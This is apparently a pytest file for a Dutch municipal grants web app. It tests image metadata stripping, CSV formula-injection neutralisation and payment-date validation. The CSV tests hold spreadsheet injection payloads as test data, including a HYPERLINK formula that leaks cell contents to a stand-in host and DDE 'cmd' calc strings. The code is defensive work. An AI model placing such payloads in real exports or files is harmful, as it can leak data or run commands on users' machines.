"""Issue 10, finding 10 (grants parts): no text survives photo re-encoding, the CSV cannot run formulas in a
spreadsheet, and a payment date far in the past or future is refused with a clear message."""
import csv
import io
from datetime import date, timedelta

import pytest
from PIL import Image, PngImagePlugin

from tests.grants.test_authz import snapshot
from webapp.extensions import db
from webapp.grants import models as m
from webapp.grants import services as svc
from webapp.grants.csv_safety import spreadsheet_safe

MARKER = b"CANARY-7f3a9c"


def _exif_with_text() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "description " + MARKER.decode()  # ImageDescription
    exif[0x013B] = "artist " + MARKER.decode()       # Artist
    exif[0x0112] = 1                                 # Orientation
    return exif.tobytes()


def _xmp() -> bytes:
    return (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            b'<rdf:Description>' + MARKER + b'</rdf:Description></rdf:RDF></x:xmpmeta>')


def test_jpeg_comment_exif_xmp_and_icc_text_do_not_survive_reencoding():
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(
        out, "JPEG", comment=b"COM " + MARKER, exif=_exif_with_text(), xmp=_xmp(),
        icc_profile=b"\0" * 128 + b"icc " + MARKER)
    original = out.getvalue()
    assert original.count(MARKER) >= 4 and b"\xff\xfe" in original  # a COM segment, EXIF, XMP and ICC text
    with Image.open(io.BytesIO(original)) as probe:
        assert MARKER in probe.info["comment"]
    cleaned, mime = svc.clean_image(original)
    assert mime == "image/jpeg"
    assert MARKER not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert "comment" not in image.info and "exif" not in image.info and "icc_profile" not in image.info
        assert image.size == (64, 48)
        assert image.getpixel((10, 10))[0] > 150  # still the same picture


def test_png_text_chunks_exif_and_icc_do_not_survive_reencoding():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "tEXt " + MARKER.decode())
    info.add_itxt("Description", "iTXt " + MARKER.decode())
    info.add_text("Software", "zTXt " + MARKER.decode(), zip=True)
    out = io.BytesIO()
    Image.new("RGBA", (32, 32), (0, 128, 0, 128)).save(out, "PNG", pnginfo=info, exif=_exif_with_text(),
                                                       icc_profile=b"\0" * 128 + b"icc " + MARKER)
    assert MARKER in out.getvalue()
    cleaned, mime = svc.clean_image(out.getvalue())
    assert mime == "image/png" and MARKER not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.mode == "RGBA" and image.getpixel((1, 1)) == (0, 128, 0, 128)
        assert not {"Comment", "Description", "Software", "exif", "icc_profile"} & set(image.info)


def test_report_photo_with_a_comment_is_stored_without_it(owner, staff, grant_round, initiative, make_application):
    application = make_application(owner, grant_round, initiative, 30_000)
    svc.decide(staff, application, "approve", "Goed.")
    svc.record_payout(staff, application, svc.local_today(), "BP-7")
    db.session.commit()
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 10, 200)).save(out, "JPEG", comment=MARKER)
    svc.submit_report(owner, application, "Het was gezellig.", 12, None, photo=out.getvalue())
    db.session.commit()
    stored = db.session.get(m.GrantReport, application.id)
    assert stored.photo and MARKER not in stored.photo


# ---------------------------------------------------------------- CSV

@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example","klik")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "  =1+1", "＝1+1", "-", "+", "@", "=",
])
def test_formulas_are_neutralised(value):
    safe = spreadsheet_safe(value)
    assert safe == "'" + value


@pytest.mark.parametrize("value", [
    "+31 20 612 3456", "+31 (0)20 612 3456", "-5", "-5,50", "+1.234,50", "-0.5", "020-612 3456", "Buurtsoep",
    "Koffie = gezellig", "e-mail", "", "1+1",
])
def test_plain_numbers_phone_numbers_and_text_stay_usable(value):
    assert spreadsheet_safe(value) == value


def test_grants_csv_neutralises_the_round_name_and_every_text_cell(client, owner, staff, make_round, make_initiative,
                                                                   make_application):
    grant_round = make_round(name='=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")')
    initiative = make_initiative(owner, title="@SUM(1+1)*cmd|' /C calc'!A0")
    application = make_application(owner, grant_round, initiative, 30_000, title="-2+3+cmd|' /C calc'!A0")
    svc.decide(staff, application, "approve", "Goed.")
    plain = make_application(owner, grant_round, make_initiative(owner, title="-5"), 20_000,
                             title="+31 20 612 3456")
    svc.decide(staff, plain, "approve", "Goed.")
    db.session.commit()
    response = client.get("/api/v1/gemeenten/GM0363/startbijdragen.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    by_initiative = {row["initiative_id"]: row for row in rows}
    evil = by_initiative[str(initiative.id)]
    assert evil["round"] == "'" + grant_round.name
    assert evil["initiative"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert evil["purpose"] == "'-2+3+cmd|' /C calc'!A0"
    kept = by_initiative[str(plain.initiative_id)]
    assert kept["initiative"] == "-5" and kept["purpose"] == "+31 20 612 3456"
    for row in rows:  # no text cell starts a formula
        for key in ("round", "initiative", "purpose", "district", "date", "paid"):
            assert row[key] == spreadsheet_safe(row[key]) or row[key].startswith("'")


# ---------------------------------------------------------------- payment date

@pytest.fixture
def approved(owner, staff, grant_round, initiative, make_application):
    application = make_application(owner, grant_round, initiative, 30_000)
    svc.decide(staff, application, "approve", "Goed.")
    db.session.commit()
    return application


@pytest.mark.parametrize("paid_on, message", [
    ("0001-01-01", "nog niet toegekend"),
    ("1999-12-31", "nog niet toegekend"),
    ("9999-12-31", "in de toekomst"),
    ((date.today() + timedelta(days=400)).isoformat(), "in de toekomst"),
])
def test_payment_date_out_of_range_is_refused_with_a_clear_message(client, login, staff2, approved, paid_on,
                                                                   message):
    login(client, staff2)
    before = snapshot()
    response = client.post(f"/startbijdragen/aanvraag/{approved.id}/uitbetaling",
                           data={"paid_on": paid_on, "reference": "BP-1"})
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert snapshot() == before
    assert db.session.get(m.GrantApplication, approved.id).paid_on is None


@pytest.mark.parametrize("paid_on", ["10000-01-01", "2026-02-30", "0000-01-01", "-1-01-01"])
def test_payment_date_that_is_no_date_is_a_400(client, login, staff2, approved, paid_on):
    login(client, staff2)
    before = snapshot()
    response = client.post(f"/startbijdragen/aanvraag/{approved.id}/uitbetaling",
                           data={"paid_on": paid_on, "reference": "BP-1"})
    assert response.status_code == 400 and snapshot() == before


def test_payment_date_before_the_approval_is_refused(staff2, approved):
    with pytest.raises(svc.GrantError) as info:
        svc.record_payout(staff2, approved, svc.local_today() - timedelta(days=1), "BP-1")
    assert "paid_on" in info.value.errors
    db.session.rollback()
    svc.record_payout(staff2, approved, svc.local_today(), "BP-1")  # the day of the approval is fine
    db.session.commit()
    assert approved.status == m.PAID


def test_refund_date_before_the_payment_is_refused(staff2, approved):
    svc.record_payout(staff2, approved, svc.local_today(), "BP-1")
    db.session.commit()
    with pytest.raises(svc.GrantError) as info:
        svc.record_refund(staff2, approved, 1_000, date(1, 1, 1), "Terug.")
    assert "refunded_on" in info.value.errors
